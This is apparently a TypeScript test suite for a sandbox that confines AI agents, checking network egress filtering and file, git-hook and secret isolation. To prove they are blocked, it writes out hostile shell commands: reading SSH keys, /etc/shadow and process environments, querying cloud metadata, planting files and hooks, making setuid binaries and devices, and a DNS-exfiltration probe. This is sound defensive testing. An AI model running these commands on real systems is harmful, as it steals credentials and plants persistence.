import assert from 'node:assert/strict'
import { existsSync, readFileSync, statSync } from 'node:fs'
import { mkdir, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import type { ArrivedRequest, Internet, InternetServer } from '../../support/internet.ts'
import type { CageHost } from '../support/cage.ts'
import type { CageSession } from '../support/session.ts'
import { assertProtected, SECRET, type World } from '../support/world.ts'

/** What must hold whatever the isolation. The commands are short, for machines that are emulated. */
export interface Case {
  readonly name: string
  readonly hold: (world: World, servers: MatrixServers) => Promise<void>
}

/** What the cases ask for on the test internet. */
export class MatrixServers {
  /**
   * Whether every address of the cage's network leads to the egress. Where it does not, as between containers, there is
   * nothing at all behind the others: no route, no connection.
   */
  readonly everywhere: boolean

  constructor({ everywhere = true } = {}) {
    this.everywhere = everywhere
  }

  readonly #servers = new Map<string, InternetServer>()

  async populate(internet: Internet): Promise<void> {
    for (const host of ['proxied.test', 'captured.test', 'sixth.test', 'unlisted.example'])
      this.#servers.set(host, await internet.server(host))
  }

  requestsOf(host: string): readonly ArrivedRequest[] {
    return this.#servers.get(host)?.requests ?? []
  }
}

const PRIVATE_KEY = 'a key that nobody may read'
const HOOK = '#!/bin/sh\n'

/** What the host has before the cage starts. */
export async function prepare(host: CageHost): Promise<void> {
  await mkdir(join(host.home, '.ssh'), { recursive: true, mode: 0o700 })
  await writeFile(join(host.home, '.ssh/id_ed25519'), PRIVATE_KEY)
  // As git makes one, which not every host has.
  for (const folder of ['objects', 'refs/heads', 'hooks'])
    await mkdir(join(host.project, '.git', folder), { recursive: true })
  await host.write('.git/HEAD', 'ref: refs/heads/main\n')
  await host.write('.git/config', '[core]\n\trepositoryformatversion = 0\n\tbare = false\n')
  await host.write('.git/hooks/pre-commit', HOOK, 0o755)
  await host.write('notes.txt', 'from the host\n')
}

const NETWORK: readonly Case[] = [
  {
    name: 'a listed host is reached by the proxy, and the secret is only outside',
    async hold(world, servers) {
      await assertReached({ world, servers }, 'proxied.test', '')
    },
  },
  {
    name: 'a program that knows of no proxy is captured, and treated alike',
    async hold(world, servers) {
      await assertReached({ world, servers }, 'captured.test', "--noproxy '*'")
    },
  },
  {
    name: 'a program that goes to an IPv6 address is captured, and treated alike',
    async hold(world, servers) {
      if (servers.everywhere)
        await assertReached({ world, servers }, 'sixth.test', "--noproxy '*' --resolve sixth.test:443:[2001:db8::7]")
      const addresses = ['2001:db8::9', 'fec0::2', 'fd00::1', '64:ff9b::7f00:1']
      const urls = addresses.flatMap((address) => [`http://[${address}]/`, `http://[${address}]:8443/`])
      const answers = await ask(world.cage, [...urls, 'https://unlisted.example/'], RESOLVED_TO_SIXTH)
      const [web = [], elsewhere] = [0, 1].map((rest) => answers.filter((_, index) => index % 2 === rest))
      assert.deepEqual(web.map(codeOf), Array(5).fill(servers.everywhere ? '403' : '000'))
      assert.deepEqual(elsewhere, Array(4).fill(REFUSED))
      assert.deepEqual(servers.requestsOf('unlisted.example'), [])
    },
  },
  {
    name: 'a host that is not listed is denied, by its name and by an address',
    async hold(world, servers) {
      const byProxy = await ask(world.cage, ['https://unlisted.example/'], '')
      const urls = ['https://unlisted.example/', 'http://169.254.169.254/latest/meta-data/']
      const captured = await ask(world.cage, urls, "--noproxy '*' --resolve unlisted.example:443:203.0.113.7")
      assert.deepEqual(byProxy.map(codeOf), ['403'])
      assert.deepEqual(captured.map(codeOf), Array(2).fill(servers.everywhere ? '403' : '000'))
      assert.deepEqual(servers.requestsOf('unlisted.example'), [])
      const records = await world.recordsOf('unlisted.example')
      assert.ok(
        records.length >= (servers.everywhere ? 2 : 1) && records.every(({ decision }) => decision === 'blocked'),
      )
    },
  },
  {
    name: 'a port that is not captured refuses at every address',
    async hold({ cage }) {
      const urls = ['203.0.113.7', '8.8.8.8', '10.0.2.2', '192.168.0.1'].map((address) => `http://${address}:8443/`)
      assert.deepEqual(await ask(cage, urls, "--noproxy '*'"), Array(4).fill(REFUSED))
    },
  },
  {
    name: 'a name off the list resolves to the address of nothing',
    async hold({ cage }) {
      const { stdout } = await cage.sh(
        "curl -sv -m 60 -o /dev/null --noproxy '*' http://c3RvbGVu.unlisted.example/ 2>&1 | grep -o 'Trying [0-9.]*'",
      )
      assert.match(stdout, /^Trying 198\.51\.100\.1\n$/)
    },
  },
]

const FILES: readonly Case[] = [
  {
    name: 'what the workload writes in the project is the host’s, and the other way round',
    async hold({ cage, host }) {
      await writeFile(join(host.project, 'later.txt'), 'written meanwhile\n')
      const { stdout } = await cage.sh(
        'cat notes.txt later.txt; echo from inside > made.txt; mkdir d && mv made.txt d/',
      )
      assert.equal(stdout, 'from the host\nwritten meanwhile\n')
      assert.equal(readFileSync(join(host.project, 'd/made.txt'), 'utf8'), 'from inside\n')
      assert.equal(statSync(join(host.project, 'd/made.txt')).uid, process.geteuid?.())
    },
  },
  {
    name: 'the home, agentcage’s own folders and what only root reads are not there',
    async hold({ cage, host }) {
      const hidden = [
        join(host.home, '.ssh/id_ed25519'),
        host.configPath,
        host.state,
        '/etc/shadow',
        '/var/log/dpkg.log',
      ]
      const { stdout } = await cage.sh(`
        for path in ${hidden.join(' ')}; do head -c 40 "$path"; ls "$path"/* ; done 2>/dev/null | grep -v ^/etc/shadow$
        ls -A ${host.home} | grep -v ^project$`)
      assert.equal(stdout, '')
    },
  },
  {
    name: 'nothing outside of the project changes on the host',
    async hold({ cage, host }) {
      const places = ['/usr/bin/planted', '/etc/planted', `${host.home}/.bashrc`, `${dirname(host.project)}/planted`]
      await cage.sh(
        `for path in ${places.join(' ')} /tmp/planted-${process.pid}; do echo x > "$path"; done 2>/dev/null`,
      )
      for (const path of [...places, `/tmp/planted-${process.pid}`]) assert.ok(!existsSync(path), path)
    },
  },
]

const PROJECT: readonly Case[] = [
  {
    name: 'hooks and settings of git, agents and editors cannot be changed or made',
    async hold({ cage, host }) {
      const { stdout } = await cage.sh(`
        for attempt in 'echo planted >> .git/hooks/pre-commit' 'rm .git/hooks/pre-commit' 'mv .git/hooks away' \\
          'echo x > .git/hooks/post-commit' 'git config core.fsmonitor planted' 'mv .git away' \\
          'echo x > .claude/settings.json' 'rmdir .claude' 'echo x > .envrc' 'ln -s /tmp .vscode/x'; do
          sh -c "$attempt" 2>/dev/null && echo "$attempt"
        done`)
      assert.equal(stdout, '')
      assert.equal(readFileSync(join(host.project, '.git/hooks/pre-commit'), 'utf8'), HOOK)
      assert.doesNotMatch(readFileSync(join(host.project, '.git/config'), 'utf8'), /planted/)
    },
  },
  {
    name: 'files that run as their owner cannot be made',
    async hold({ cage, host }) {
      await cage.sh('cp /bin/true copy; chmod 4755 copy; chmod 2755 copy; install -m 6755 /bin/true other')
      for (const name of ['copy', 'other']) {
        const path = join(host.project, name)
        if (existsSync(path)) assert.equal(statSync(path).mode & 0o6000, 0, name)
      }
    },
  },
  {
    name: 'devices cannot be made',
    async hold({ cage, host }) {
      await cage.sh('mknod disk b 259 0; mknod memory c 1 1')
      for (const name of ['disk', 'memory']) {
        const path = join(host.project, name)
        if (existsSync(path)) assert.ok(statSync(path).isFile(), name)
      }
    },
  },
]

const SECRETS: readonly Case[] = [
  {
    name: 'no secret is in the environment, on a command line or in a file',
    async hold({ cage }) {
      const { stdout } = await cage.sh(
        'env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /run/agentcage/* 2>/dev/null',
      )
      assert.ok(!stdout.includes(SECRET))
      assert.match(stdout, /^API_TOKEN=agentcage-placeholder-for-tests$/m)
    },
  },
]

export const CASES: readonly Case[] = [...NETWORK, ...FILES, ...PROJECT, ...SECRETS]

/** What curl says of a connection that is refused: no answer, CURLE_COULDNT_CONNECT. */
const REFUSED = '000 7'
const RESOLVED_TO_SIXTH = "--noproxy '*' --resolve unlisted.example:443:[2001:db8::8]"

/** Asks each URL, by one curl, which takes an emulated machine a second to start; yields each answer's code and curl's own. */
async function ask(cage: CageSession, urls: readonly string[], flags: string): Promise<readonly string[]> {
  const targets = urls.map((url) => `'${url}' -o /dev/null`).join(' ')
  const { stdout } = await cage.sh(`curl -skg -m 60 -w '%{http_code} %{exitcode}\\n' ${flags} ${targets}`)
  return stdout.trim().split('\n')
}

function codeOf(answer: string): string {
  return answer.replace(/ .*/, '')
}

interface Scene {
  readonly world: World
  readonly servers: MatrixServers
}

async function assertReached({ world, servers }: Scene, name: string, flags: string): Promise<void> {
  const script = `curl -sS --fail -m 60 ${flags} -H "Authorization: Bearer $API_TOKEN" https://${name}/`
  const { stdout, stderr, code } = await world.cage.sh(script)
  assert.equal(code, 0, stderr)
  const [record] = await world.recordsOf(name)
  assertProtected(servers.requestsOf(name)[0], stdout, record)
}
